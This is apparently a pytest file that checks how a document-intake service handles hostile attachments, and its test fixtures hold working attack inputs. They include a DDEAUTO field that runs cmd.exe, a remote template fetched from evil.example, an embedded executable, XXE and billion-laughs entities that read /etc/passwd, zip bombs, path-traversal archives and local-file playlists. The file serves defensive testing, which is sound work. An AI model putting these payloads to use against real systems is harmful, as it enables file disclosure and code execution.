"""Rows 31 to 41: files that would do something if anybody opened them, and files that say they are other files."""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Iterator

import openpyxl
import pytest
from PIL import Image

from tests.e2e.world import report
from tests.hostile.ordeal import KNOWN, Ordeal, own_mail
from tests.pipeline.office import opened_office
from tests.pipeline.test_scanning import infected, scanned_by
from tests.samples import archives, documents, media
from tests.servers.clamd import MARKER, NAME, STREAM_LIMIT, ClamdServer

pytestmark = pytest.mark.server


def docx_with(name: str, what: str | bytes) -> bytes:
    """A report with one part changed or added."""
    made = dict(documents.docx_parts("微山县2024年科技活动周总结报告", ["开展科普进校园活动。"] * 5))
    return documents.zipped(made | {name: what})


OFFICE = "http://schemas.openxmlformats.org"
ATTACHED = (
    f'<Relationships xmlns="{OFFICE}/package/2006/relationships"><Relationship Id="r1" TargetMode="External" '
    f'Type="{OFFICE}/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"/>'
    "</Relationships>"
)
MACRO = docx_with("word/vbaProject.bin", b"macro")
DDE = docx_with(
    "word/footer1.xml",
    f'<w:ftr xmlns:w="{OFFICE}/wordprocessingml/2006/main"><w:p><w:r>'
    r"<w:instrText>DDEAUTO c:\windows\cmd.exe</w:instrText></w:r></w:p></w:ftr>",
)
TEMPLATE = docx_with("word/_rels/settings.xml.rels", ATTACHED)


def test_row_31_a_document_with_macros_is_returned(ordeal: Ordeal) -> None:
    (seen,) = ordeal.suffer(own_mail({"总结报告.docx": MACRO}))
    assert "format-not-accepted" in seen.codes
    assert seen.counted == []


PACKED = docx_with("word/embeddings/oleObject1.bin", documents.ole({"\1Ole10Native": b"\2\0evil.exe\0" + b"MZ" * 99}))


RTF_OBJECT = documents.rtf(["微山县2024年科技活动周总结报告"] + ["开展科普进校园活动。"] * 5).replace(
    b"\\deff0",
    b"\\deff0{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b61676500}}",
    1,
)


def test_row_31_an_object_in_a_rich_text_is_not_opened_either(ordeal: Ordeal) -> None:
    """No notice takes this format unless it says so; then such a text counts as a docx with an object does."""
    (seen,) = ordeal.suffer(own_mail({"总结报告.rtf": RTF_OBJECT}))
    (text,) = seen["materials"]
    assert (text["origin"], text["counted"]) == ("总结报告.rtf", False)
    assert "format-not-accepted" in seen.codes


@pytest.mark.parametrize("octets", [DDE, TEMPLATE, PACKED], ids=["dde", "template", "object"])
def test_row_31_nothing_that_a_document_points_to_is_fetched(ordeal: Ordeal, octets: bytes) -> None:
    """Counted: no program of an office opens it here, the child has no network, and Office asks its reader before it
    follows either, or opens an object (spreadsheets and drawings are objects, too, and counties do embed them). Staff's
    own scanner and Office's protected view are what stands between it and a clerk.
    """
    (seen,) = ordeal.suffer(own_mail({"总结报告.docx": octets}))
    assert seen.counted == ["总结报告.docx"]


BOMBS = {
    "炸.zip": archives.bomb_zip(200),
    "叠.zip": archives.overlapping_zip(),
    "多.zip": archives.crowded_zip(20_000),
    "套.zip": archives.zipped({"a.zip": archives.zipped({"b.zip": archives.zipped({"c.zip": b"x" * 99})})}),
}


@pytest.mark.parametrize("name", BOMBS)
def test_row_32_an_archive_that_explodes_is_refused(ordeal: Ordeal, name: str) -> None:
    (seen,) = ordeal.suffer(own_mail({name: BOMBS[name]}))
    assert "archive-refused" in seen.codes
    assert seen.counted == []
    stored = sum(path.stat().st_size for path in ordeal.office.app.blobs.root.rglob("*") if path.is_file())
    assert stored < 8 << 20


def test_row_32_a_document_that_explodes_is_measured_within_its_bounds(ordeal: Ordeal) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, what in documents.docx_parts("总结报告", ["正文"]).items():
            archive.writestr(name, what)
        archive.writestr("word/media/image1.jpeg", bytes(200 << 20))
    (seen,) = ordeal.suffer(own_mail({"总结报告.docx": packed.getvalue()}))
    assert seen.counted == ["总结报告.docx"], "its text is small; what explodes beside it is not unpacked"


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    "<w:t>&c;&x;</w:t></w:r></w:p></w:body></w:document>"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="http://x.example/a.png"/></svg>'


def test_row_33_no_entity_is_expanded_and_no_svg_drawn(ordeal: Ordeal) -> None:
    files = {"总结报告.docx": docx_with("word/document.xml", LAUGHS), "图.svg": SVG.encode()}
    (seen,) = ordeal.suffer(own_mail(files))
    assert seen.counted == []
    assert "root:" not in str(seen.story)
    assert "hahahaha" not in str(seen.story)


ESCAPES = {
    "逃.zip": archives.zipped({"../../etc/passwd": b"x"}),
    "绝.zip": archives.zipped({"/etc/passwd": b"x"}),
    "设备.tar": archives.tarred({"/dev/../etc/passwd": b"x"}),
}


@pytest.mark.parametrize("name", ESCAPES)
def test_row_34_what_climbs_out_of_an_archive_is_refused(ordeal: Ordeal, name: str) -> None:
    """Archives are opened, because counties send them; what is inside goes into the store by its hash, and never to a
    place that the archive names.
    """
    (seen,) = ordeal.suffer(own_mail({name: ESCAPES[name]}))
    assert seen.counted == []
    assert "archive-refused" in seen.codes
    assert not list(ordeal.office.world.folder.rglob("*passwd*"))


def special(kind: bytes, target: str = "") -> bytes:
    """A tar with an entry that is no file, and one that is."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        entry = tarfile.TarInfo("总结报告.docx")
        entry.type, entry.linkname, entry.devmajor, entry.devminor = kind, target, 1, 3
        archive.addfile(entry)
        plain = tarfile.TarInfo("1.jpg")
        plain.size = len(PHOTO)
        archive.addfile(plain, io.BytesIO(PHOTO))
    return packed.getvalue()


PHOTO = media.photo(seed=1)


@pytest.mark.parametrize(
    ("kind", "target"),
    [(tarfile.CHRTYPE, ""), (tarfile.BLKTYPE, ""), (tarfile.FIFOTYPE, ""), (tarfile.SYMTYPE, "/etc/passwd"),
     (tarfile.LNKTYPE, "/etc/passwd")],
)  # fmt: skip
def test_row_34_what_is_no_file_in_an_archive_is_none(ordeal: Ordeal, kind: bytes, target: str) -> None:
    """Devices, pipes and links are not opened, and take nothing from the files beside them."""
    (seen,) = ordeal.suffer(own_mail({"材料.tar": special(kind, target)}))
    assert "root:" not in str(seen.story)
    assert not [each for each in seen["materials"] if each["origin"].endswith("总结报告.docx") and each["size"]]
    assert seen.counted in ([], ["材料.tar/1.jpg"])


def test_row_34_a_link_in_an_archive_leads_nowhere(ordeal: Ordeal) -> None:
    (seen,) = ordeal.suffer(own_mail({"链.rar": archives.rar5({}, link="/etc/passwd")}))
    assert [each["origin"] for each in seen["materials"]] == ["链.rar"]
    assert "root:" not in str(seen.story)


@pytest.mark.parametrize(
    ("name", "octets"),
    [("锁.7z", archives.seven_zipped({"总结报告.docx": report("微山县")}, password="1")),
     ("锁.doc", documents.doc(["正文"], locked=True)), ("锁.pdf", documents.locked_pdf())],
    ids=["7z", "doc", "pdf"],
)  # fmt: skip
def test_row_35_a_file_with_a_password_is_asked_for_without_one(ordeal: Ordeal, name: str, octets: bytes) -> None:
    """Returned and not held: the county can mend it itself, and sooner than a person looks."""
    (seen,) = ordeal.suffer(own_mail({name: octets}))
    assert "file-locked" in seen.codes
    (letter,) = ordeal.answers(KNOWN)
    assert "密码" in letter.get_body(("plain",)).get_content()


@pytest.mark.parametrize("octets", [media.png_bomb(), media.png_bomb(9_400, 9_400), media.heic_bomb()], ids=range(3))
def test_row_36_a_picture_that_explodes_is_measured_and_not_drawn(ordeal: Ordeal, octets: bytes) -> None:
    (seen,) = ordeal.suffer(own_mail({"1.png": octets, "总结报告.docx": report("微山县")}))
    assert seen.counted == ["总结报告.docx"]
    assert seen["materials"][0]["facts"]["condition"] in ("unmeasured", "damaged")


def located_photo() -> bytes:
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (34.0, 48.0, 12.0), 3: "E", 4: (117.0, 7.0, 43.0)}
    picture, made = Image.open(io.BytesIO(media.photo(seed=5))), io.BytesIO()
    picture.save(made, "JPEG", exif=exif, quality=85)
    return made.getvalue()


def test_row_37_where_a_photo_was_taken_is_told_nowhere(ordeal: Ordeal) -> None:
    """The original is kept as it came; what the service says or shows of it, and what it exports, tells no place."""
    octets = located_photo()
    assert Image.open(io.BytesIO(octets)).getexif().get_ifd(0x8825)
    (seen,) = ordeal.suffer(own_mail({"1.jpg": octets}))
    told = str(seen.story) + ordeal.office.world.run("digest")
    assert "117.0" not in told
    assert "GPS" not in told
    out = ordeal.office.world.folder / "out"
    ordeal.office.world.run("export", out)
    (exported,) = (out / "01-微山县").glob("*.jpg")
    assert dict(Image.open(io.BytesIO(exported.read_bytes())).getexif().get_ifd(0x8825)) == {}
    index = openpyxl.load_workbook(out / "index.xlsx").active
    assert index is not None
    assert [row[12].value for row in index.iter_rows() if row[1].value == "微山县科学技术局"] == ["已去除"]
    assert ordeal.office.app.blobs.path(seen["materials"][0]["sha256"]).read_bytes() == octets


PLAYLISTS = {
    "hls.mp4": b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n",
    "concat.mp4": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "http.mov": b"#EXTM3U\n#EXTINF:10,\nhttp://127.0.0.1:1/x.ts\n",
}


@pytest.mark.parametrize("name", PLAYLISTS)
def test_row_38_a_list_of_other_files_is_no_video(ordeal: Ordeal, name: str) -> None:
    (seen,) = ordeal.suffer(own_mail({name: PLAYLISTS[name]}))
    assert seen.counted == []
    assert "root:" not in str(seen.story)
    assert seen["materials"][0]["facts"].get("seconds") is None


LIARS = {
    "movie header": media.lying_movie_header(media.video(240), 60),
    "all lists": media.lists_all_lying(media.video(240), 60),
    "boxes": media.nested_boxes(),
    "index": media.boundless_index(),
    "no time scale": media.video(60).replace(b"mvhd\0", b"mvhd\xff", 1),
}


@pytest.mark.parametrize("name", LIARS)
def test_row_39_a_video_that_lies_about_its_length_never_passes_as_short(ordeal: Ordeal, name: str) -> None:
    (seen,) = ordeal.suffer(own_mail({"视频.mp4": LIARS[name]}))
    told = seen["materials"][0]
    if told["counted"]:
        assert name == "no time scale"
        assert told["facts"]["seconds"] == pytest.approx(60, abs=1)
    else:
        assert seen.codes & {"video-too-long", "video-unmeasurable", "video-damaged", "file-damaged"}


def test_row_40_a_codec_that_is_never_decoded_does_no_harm(ordeal: Ordeal) -> None:
    """Only the container is read, and one picture for the preview, of common codecs, in the child."""
    odd = media.video(60).replace(b"avc1", b"MAGY")
    assert odd != media.video(60)
    (seen,) = ordeal.suffer(own_mail({"视频.mp4": odd}))
    assert seen["materials"][0]["facts"]["seconds"] == pytest.approx(60, abs=1)


@pytest.fixture
def scanned(ordeal: Ordeal, clamd_server: ClamdServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ordeal]:
    scanned_by(ordeal.office.world, clamd_server)
    with opened_office(ordeal.office.world, monkeypatch) as opened:
        yield Ordeal(opened)


def test_row_41_malware_is_refused_and_its_name_kept_from_its_sender(scanned: Ordeal) -> None:
    (seen,) = scanned.suffer(infected("370826"))
    assert "malware" in seen.codes
    assert "总结报告.docx" not in seen.counted
    (letter,) = scanned.answers(KNOWN)
    assert NAME not in letter.as_string()


def test_row_41_what_is_past_the_scanners_limits_is_held(scanned: Ordeal) -> None:
    """A sound film, larger than the scanner takes: it says of itself that it may skip what is in its last box."""
    size = STREAM_LIMIT + 8
    large = media.video(60) + size.to_bytes(4, "big") + b"free" + MARKER + bytes(size - 8 - len(MARKER))
    (seen,) = scanned.suffer(own_mail({"视频.mp4": large}))
    (film,) = (each for each in seen["materials"] if each["origin"] == "视频.mp4")
    assert film["state"] == "held"
    assert [(code["code"], code["severity"]) for code in film["findings"]] == [("not-scanned", "hold")]
    assert not film["counted"]
    (letter,) = scanned.answers(KNOWN)
    assert "未能全部通过安全检查" in letter.get_body(("plain",)).get_content()  # type: ignore[union-attr]
